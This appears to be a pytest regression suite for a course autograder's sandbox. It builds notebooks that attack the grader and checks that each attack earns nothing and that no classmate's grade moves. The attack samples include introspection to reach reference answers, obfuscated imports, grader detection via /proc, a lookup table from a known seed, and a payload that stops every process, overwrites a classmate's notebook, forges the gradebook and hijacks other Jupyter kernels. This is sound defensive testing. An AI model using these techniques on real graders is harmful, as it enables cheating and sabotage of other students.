"""The hostile corpus of issue 17: every attack on ``dlbook grade`` that once earned points or
reached another student's grade, each with the score it must get now.

The submissions are made from solutions/ch01 (21 points) or exercises/ch01 (0 points) by
one change. The per-question corpus is graded in one run of two kernels at a time; the attacks
on other students (the gradebook, a classmate's notebook, another kernel, the grader's
processes, the network) are graded next to honest victims through ``dlbook grade`` itself,
whose scores must not move. Needs bubblewrap.
"""
from __future__ import annotations

import base64
import csv
import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest
from test_grader import (
    EXERCISE,
    FULL,
    LIMITS,
    NONE,
    POINTS,
    SOLUTION,
    Submission,
    _insert_after,
    _set_source,
    _solution,
    _stubs,
)

from dlbook.grading import gradebook, grader, registry

pytestmark = [pytest.mark.xdist_group("grader_corpus"),
              pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")]

LAST_SEED = 12345  # "last run's" seed: its hidden inputs are known to the attacker

FRAME_WALK = '''import sys

def linear_backward(grad_out, x, weight):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            reference = getattr(value, "reference", None)
            if callable(reference):
                return tuple(reference(grad_out, x, weight).values())
        frame = frame.f_back
    raise NotImplementedError
'''

_HIDDEN_IMPORT = base64.b64encode(b"import dlbook.grading.questions.ch01").decode()
OBFUSCATED_IMPORTS = f'''import base64, importlib
_ = "#"; from dlbook.grading.registry import get

def mlp_gradients(X, y, W1, b1, W2, b2):
    exec(base64.b64decode("{_HIDDEN_IMPORT}").decode())
    registry = importlib.import_module("dlbook.grad" + "ing.regi" + "stry")
    return registry.get("ch01.mlp_gradients").reference(X, y, W1, b1, W2, b2)
'''

READ_SOLUTIONS = f'''import json, os
import dlbook

def linear_backward(grad_out, x, weight):
    up = os.path.dirname(os.path.dirname(os.path.abspath(dlbook.__file__)))
    for path in ({str(SOLUTION)!r}, os.path.join(up, "solutions", "ch01_perceptron_mlp.ipynb")):
        if os.path.exists(path):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if source.startswith("def linear_backward"):
                    space = {{"np": np}}
                    exec(source, space)
                    return space["linear_backward"](grad_out, x, weight)
    raise NotImplementedError
'''

TORCH_ANSWER = '''def linear_backward(grad_out, x, weight):
    import torch
    xt = torch.tensor(x, requires_grad=True)
    wt = torch.tensor(weight, requires_grad=True)
    (xt @ wt.T).backward(torch.tensor(grad_out))
    return xt.grad.numpy(), wt.grad.numpy(), grad_out.sum(axis=0)
'''

DLBOOK_NN_ANSWER = '''def mlp_gradients(X, y, W1, b1, W2, b2):
    loss = nn.CrossEntropyLoss()
    raise NotImplementedError
'''

BUILTIN_SIGMOID = '''def sigmoid(v):
    out = v.sigmoid()
    out._op = "exp"  # hides it from a check that looks at the graph
    return out
'''

FIFO_RESULTS = '''import glob, os

def _fifo(*args, **kwargs):
    for path in glob.glob(os.path.join(os.getcwd(), "*.npz")):
        os.remove(path)
        os.mkfifo(path)

get_ipython().events.register("post_run_cell", _fifo)
'''

HUGE_RESULT = '''def mlp_gradients(X, y, W1, b1, W2, b2):
    return {"W1": np.ones(2**22), "b1": b1, "W2": W2, "b2": b2}  # 32 MiB: twice the cap
'''


def _key(args: dict) -> str:
    digest = hashlib.sha256()
    for value in args.values():
        digest.update(np.asarray(value).tobytes())
    return digest.hexdigest()


def _lookup_table(question_id: str, function: str, seeds: tuple[int, ...]) -> str:
    """A function answering from a table of the public inputs and of the hidden inputs of
    runs with ``seeds``, computed offline by the reference (the attacker has the package)."""
    question = registry.get(question_id)
    cases = question.cases("public") + [c for s in seeds for c in question.cases("hidden", s)]
    table = {}
    for case in cases:
        out = question.reference(*case.args.values())
        table[_key(case.args)] = [(np.asarray(v).tolist(), str(np.asarray(v).dtype))
                                  for v in out.values()]
    arguments = ", ".join(question.cases("public")[0].args)
    return f'''import hashlib
TABLE_{function} = {table!r}

def {function}({arguments}):
    digest = hashlib.sha256()
    for value in ({arguments},):
        digest.update(np.asarray(value).tobytes())
    outs = TABLE_{function}.get(digest.hexdigest())
    if outs is None:
        raise NotImplementedError
    return tuple(np.asarray(v, dtype=d) for v, d in outs)
'''


DETECTION = '''import glob, os

def _graded():
    for path in ("/proc/self/cmdline", "/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline"):
        try:
            if b"dlbook" in open(path, "rb").read():
                return True
        except OSError:
            pass
    return bool(glob.glob("*.pkl")) or "dlbook" in os.getcwd()

_graded_now = _graded()
'''


CORPUS: dict[str, Submission] = {
    # References out of reach: no question object, no registry entries, no solutions/.
    "frame_walk_to_reference": Submission(lambda: _set_source(
        _solution(), "ch01_linear_backward", FRAME_WALK), FULL | {"linear_backward": 0}),
    "obfuscated_imports": Submission(lambda: _set_source(
        _solution(), "ch01_mlp_gradients", OBFUSCATED_IMPORTS), FULL | {"mlp_gradients": 0}),
    "reads_solutions": Submission(lambda: _set_source(
        _solution(), "ch01_linear_backward", READ_SOLUTIONS), FULL | {"linear_backward": 0}),
    # From scratch means from scratch: torch and dlbook.nn are stubs in that kernel.
    "torch_answer": Submission(lambda: _set_source(
        _solution(), "ch01_linear_backward", TORCH_ANSWER), FULL | {"linear_backward": 0}),
    "dlbook_nn_answer": Submission(lambda: _set_source(
        _solution(), "ch01_mlp_gradients", DLBOOK_NN_ANSWER), FULL | {"mlp_gradients": 0}),
    "builtin_sigmoid": Submission(lambda: _set_source(
        _solution(), "ch01_value_sigmoid", BUILTIN_SIGMOID), FULL | {"value_sigmoid": 0}),
    # Hidden inputs are drawn from a secret seed per run: last run's table is useless.
    "lookup_table": Submission(lambda: _set_source(_set_source(
        _solution(), "ch01_linear_backward",
        _lookup_table("ch01.linear_backward", "linear_backward", (LAST_SEED,))),
        "ch01_perceptron", _lookup_table("ch01.perceptron", "perceptron_fit", (LAST_SEED,))),
        FULL | {"linear_backward": 0, "perceptron": 0}),
    "detects_grading": Submission(lambda: _set_source(_insert_after(
        _solution(), "ch01_perceptron", DETECTION), "ch01_linear_backward",
        _lookup_table("ch01.linear_backward", "linear_backward", (LAST_SEED,)).replace(
            "    if outs is None:", "    if outs is None or not _graded_now:")),
        FULL | {"linear_backward": 0}),
    # The grader's own limits: a pipe for a result, a result too large to hold.
    "fifo_results": Submission(lambda: _insert_after(
        _solution(), "ch01_perceptron", FIFO_RESULTS), NONE),
    "huge_result": Submission(lambda: _set_source(
        _solution(), "ch01_mlp_gradients", HUGE_RESULT), FULL | {"mlp_gradients": 0}),
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, gradebook.Row]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, sub in CORPUS.items():
        nbformat.write(sub.make(), folder / f"{name}.ipynb")
    plan = grader.make_plan(grader.load_assignment("ch01"))
    assert plan.seed != LAST_SEED
    rows = grader.grade_all(grader.find_submissions([folder]), plan, LIMITS, jobs=2)
    return {row.submission: row for row in rows}


@pytest.mark.parametrize("name", list(CORPUS))
def test_attack_gets_what_it_earned(graded: dict[str, gradebook.Row], name: str) -> None:
    row = graded[name]
    got = {q.question.split(".", 1)[1]: q.points for q in row.questions}
    assert got == CORPUS[name].points, [q.message for q in row.questions]


def test_reasons_are_recorded(graded: dict[str, gradebook.Row]) -> None:
    def message(name: str, question: str) -> str:
        return next(q.message for q in graded[name].questions if q.question == f"ch01.{question}")

    assert "uses torch" in message("torch_answer", "linear_backward")
    assert "uses dlbook.nn" in message("dlbook_nn_answer", "mlp_gradients")
    assert "uses dlbook.autograd.Value.sigmoid" in message("builtin_sigmoid", "value_sigmoid")
    assert "(hidden tests)" in message("lookup_table", "linear_backward")
    assert "not a regular file" in message("fifo_results", "perceptron")
    assert "too large" in message("huge_result", "mlp_gradients")


# -- attacks on other students and on the grader ----------------------------------------------

TOKEN = f"dlbook-hostile-{os.getpid()}"

NEIGHBOUR_ATTACK = r'''import glob, json, os, signal, socket, subprocess, sys, time
TOKEN, GRADES, VICTIM, SOLUTION, PORT = {args}
# Signals to every process in sight (the grader, the other kernel) but ourselves.
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
# The network: the grader's machine and the internet.
for host, port in (("127.0.0.1", PORT), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2).close()
    except OSError:
        pass
# A classmate's notebook, overwritten with the solution.
try:
    with open(VICTIM, "w") as f:
        f.write(open(SOLUTION).read())
except OSError:
    pass
# A detached gradebook forger and a CPU hog that outlive this kernel.
targets = [GRADES, GRADES[:-4] + ".json", GRADES[:-4] + ".journal"]
forger = ("import time\ntime.sleep(1)\nend = time.time() + 8\nwhile time.time() < end:\n"
          f"    for path in {targets!r}:\n"
          "        try:\n            open(path, 'w').write('forged')\n"
          "        except OSError:\n            pass\n    time.sleep(0.2)\n")
for code in (forger, "while True:\n    pass\n"):
    subprocess.Popen([sys.executable, "-c", code, TOKEN], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# Another kernel's connection file: connect and run the solution in it.
from ipykernel import get_connection_file
own = get_connection_file()
end = time.time() + 4
while time.time() < end:
    for path in glob.glob("/tmp/**/*.json", recursive=True):
        if path == own:
            continue
        try:
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute(open(SOLUTION).read())
        except Exception:
            pass
    time.sleep(0.2)
'''


def _processes_with(token: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


def _scores(path: Path) -> dict[str, int]:
    with path.open() as f:
        return {r["submission"]: int(r["score"]) for r in csv.DictReader(f)}


def test_attacks_on_classmates_and_the_grader_change_nothing(tmp_path: Path) -> None:
    from dlbook.cli import main

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    folder, out = tmp_path / "subs", tmp_path / "grades.csv"
    folder.mkdir()
    victim = folder / "victim_stub.ipynb"
    shutil.copy(EXERCISE, victim)
    shutil.copy(SOLUTION, folder / "victim_honest.ipynb")
    args = (TOKEN, str(out), str(victim), str(SOLUTION), listener.getsockname()[1])
    attack = _insert_after(_stubs(), "ch01_perceptron", NEIGHBOUR_ATTACK.replace(
        "{args}", repr(args)))
    nbformat.write(attack, folder / "attacker.ipynb")
    before = victim.read_bytes()
    assert main(["grade", "--assignment", "ch01", str(folder), "--out", str(out),
                 "--jobs", "2", "--timeout", "120"]) == 0
    expected = {"attacker": 0, "victim_honest": sum(POINTS.values()), "victim_stub": 0}
    assert _scores(out) == expected
    graded = out.read_bytes()
    time.sleep(10)  # the forger would be writing by now
    assert out.read_bytes() == graded and _scores(out) == expected
    assert victim.read_bytes() == before
    assert _processes_with(TOKEN) == []
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()


def test_a_run_killed_midway_keeps_the_gradebook_and_resumes(tmp_path: Path) -> None:
    folder, out = tmp_path / "subs", tmp_path / "grades.csv"
    folder.mkdir()
    (folder / "a_empty.ipynb").write_bytes(b"")
    dlbook = [sys.executable, "-m", "dlbook", "grade", "--assignment", "ch01", str(folder),
              "--out", str(out), "--seed", "7"]
    subprocess.run(dlbook, check=True, capture_output=True, timeout=300)
    complete = out.read_bytes()
    for name in ("b_solution", "c_solution"):
        shutil.copy(SOLUTION, folder / f"{name}.ipynb")
    run = subprocess.Popen(dlbook, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                           start_new_session=True)
    journal = out.with_suffix(".journal")
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and journal.exists() and \
            "b_solution" not in journal.read_text():
        time.sleep(0.2)
    os.killpg(run.pid, signal.SIGKILL)
    run.wait()
    assert out.read_bytes() == complete  # the previous gradebook, whole
    rows = [json.loads(line) for line in journal.read_text().splitlines()[1:]]
    assert [r["submission"] for r in rows] == ["a_empty", "b_solution"]
    subprocess.run([*dlbook, "--resume"], check=True, capture_output=True, timeout=300)
    full = sum(POINTS.values())
    assert _scores(out) == {"a_empty": 0, "b_solution": full, "c_solution": full}
    doc = json.loads(out.with_suffix(".json").read_text())
    assert doc["metadata"]["seed"] == 7
    kept = {r["submission"]: r["seconds"] for r in rows}
    assert {s["submission"]: s["seconds"] for s in doc["submissions"]
            if s["submission"] in kept} == kept  # reused from the journal, not graded again
